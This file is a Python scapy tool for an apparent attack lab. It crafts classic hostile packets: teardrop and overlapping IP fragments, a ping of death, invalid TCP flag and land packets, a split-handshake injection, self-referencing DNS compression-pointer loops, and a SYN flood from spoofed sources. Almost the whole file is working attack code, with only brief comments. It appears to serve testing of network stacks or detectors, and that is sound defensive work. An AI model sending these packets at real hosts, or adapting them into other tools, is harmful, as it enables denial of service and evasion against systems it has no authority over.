#!/usr/bin/python3
"""Hand-crafted malformed packets for the Osprey attack lab (scapy).

  craft.py teardrop  VICTIM          3 classic teardrop UDP fragment pairs
  craft.py overlap   VICTIM          ICMP echo whose 2nd fragment overlaps the 1st
  craft.py pod       VICTIM          ping of death: ICMP echo fragments reassembling
                                     to 65,588 bytes (> 65,535)
  craft.py invalid   VICTIM          TCP SYN+FIN, null, Xmas, SYN+RST; a land packet
  craft.py splitsyn  CLIENT SERVER   split handshake: SYN, SYN (no ACK), SYN/ACK, ACK
  craft.py dnsloop   DNS             DNS query whose QNAME is a pointer to itself
  craft.py synflood  VICTIM N        N SYNs to :80 from random spoofed sources
                                     10.244.0.100-250 (hosts that do not exist)

Every packet goes out of the lab namespace's eth0 only; counts are fixed.
"""

import random
import sys

from scapy.all import (  # type: ignore[import-not-found]
    ICMP, IP, TCP, UDP, Ether, Raw, conf, get_if_hwaddr, send, sendp,
)

conf.verb = 0


def teardrop(dst):
    for i in range(3):
        ident = 0x4242 + i
        # frag 1: bytes 0..35 (UDP header + 28 bytes), more fragments
        send(IP(dst=dst, id=ident, flags="MF", frag=0, proto=17)
             / UDP(sport=31337, dport=53, len=56) / Raw(b"A" * 28))
        # frag 2: offset 24 bytes (3*8), only 4 bytes: lies wholly inside frag 1
        send(IP(dst=dst, id=ident, flags=0, frag=3, proto=17) / Raw(b"B" * 4))


def overlap(dst):
    ident = 0x5151
    icmp = bytes(ICMP(type=8, id=0x77, seq=1) / Raw(b"C" * 40))  # 48 bytes
    send(IP(dst=dst, id=ident, flags="MF", frag=0, proto=1) / Raw(icmp[:32]))
    # offset 16 re-sends bytes 16..31 with different data, then the tail
    send(IP(dst=dst, id=ident, flags=0, frag=2, proto=1) / Raw(b"D" * 16 + icmp[32:]))


def pod(dst):
    ident = 0x0D0D
    payload = bytes(ICMP(type=8, id=0x99, seq=1)) + b"X" * 65520  # 65,528 bytes
    chunk = 1480
    off = 0
    while off < len(payload):
        piece = payload[off:off + chunk]
        send(IP(dst=dst, id=ident, flags="MF", frag=off // 8, proto=1) / Raw(piece))
        off += len(piece)
    # the last fragment starts at 65,528 and carries 40 bytes:
    # 20 (IP header) + 65,528 + 40 = 65,588 > 65,535
    send(IP(dst=dst, id=ident, flags=0, frag=off // 8, proto=1) / Raw(b"Z" * 40))


def invalid(dst):
    for flags, sport in (("SF", 40001), ("", 40002), ("FPU", 40003), ("SR", 40004)):
        send(IP(dst=dst) / TCP(sport=sport, dport=80, flags=flags, seq=1000))
    # land: source == destination, same port
    send(IP(src=dst, dst=dst) / TCP(sport=80, dport=80, flags="S", seq=2000))


def splitsyn(client, server):
    iface = "eth0"  # scapy's default is lo here: the lab has no default route
    cmac = get_if_hwaddr(iface)
    smac = "02:42:0a:f4:00:63"  # crafted server, no real host behind it
    c2s = Ether(src=cmac, dst=smac) / IP(src=client, dst=server)
    s2c = Ether(src=smac, dst=cmac) / IP(src=server, dst=client)
    sendp(c2s / TCP(sport=45000, dport=80, flags="S", seq=1000), iface=iface)
    sendp(s2c / TCP(sport=80, dport=45000, flags="S", seq=5000), iface=iface)
    sendp(c2s / TCP(sport=45000, dport=80, flags="SA", seq=1000, ack=5001), iface=iface)
    sendp(s2c / TCP(sport=80, dport=45000, flags="A", seq=5001, ack=1001), iface=iface)
    sendp(c2s / TCP(sport=45000, dport=80, flags="PA", seq=1001, ack=5001)
          / Raw(b"GET / HTTP/1.1\r\nHost: 10.244.0.99\r\n\r\n"), iface=iface)


def dnsloop(dns):
    # header: id, RD, QDCOUNT=1; QNAME = pointer to offset 12 (itself)
    msg = bytes.fromhex("beef 0100 0001 0000 0000 0000".replace(" ", ""))
    msg += b"\xc0\x0c" + b"\x00\x01\x00\x01"
    send(IP(dst=dns) / UDP(sport=53535, dport=53) / Raw(msg))
    # a two-label loop: label "a" then a pointer back to offset 12
    msg2 = bytes.fromhex("beaf 0100 0001 0000 0000 0000".replace(" ", ""))
    msg2 += b"\x01a\xc0\x0c" + b"\x00\x01\x00\x01"
    send(IP(dst=dns) / UDP(sport=53536, dport=53) / Raw(msg2))


def synflood(dst, count):
    rnd = random.Random(20261128)
    sock = conf.L3socket()
    for _ in range(int(count)):
        src = "10.244.0.%d" % rnd.randint(100, 250)
        sock.send(IP(src=src, dst=dst, id=rnd.randint(1, 65535))
                  / TCP(sport=rnd.randint(1024, 65535), dport=80, flags="S",
                        seq=rnd.randint(0, 2**32 - 1), window=1024))
    sock.close()


def main():
    cmd, args = sys.argv[1], sys.argv[2:]
    {"teardrop": teardrop, "overlap": overlap, "pod": pod, "invalid": invalid,
     "splitsyn": splitsyn, "dnsloop": dnsloop, "synflood": synflood}[cmd](*args)


if __name__ == "__main__":
    main()
